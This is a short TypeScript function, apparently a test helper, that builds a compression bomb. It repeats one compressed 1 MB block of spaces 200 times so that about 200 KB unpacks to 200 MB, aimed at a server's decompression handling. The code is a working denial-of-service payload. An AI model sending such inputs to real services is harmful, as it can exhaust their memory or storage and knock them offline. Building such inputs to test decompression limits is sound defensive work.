/**
 * 200 KB that unpack to 200 MB: many small members, so that the server never holds them.
 * @param compress packs one of them
 */
export function bomb(compress: (bytes: Uint8Array) => Uint8Array): Buffer {
  const member = compress(Buffer.alloc(1024 * 1024, 32));
  return Buffer.concat(Array.from({ length: 200 }, () => member));
}
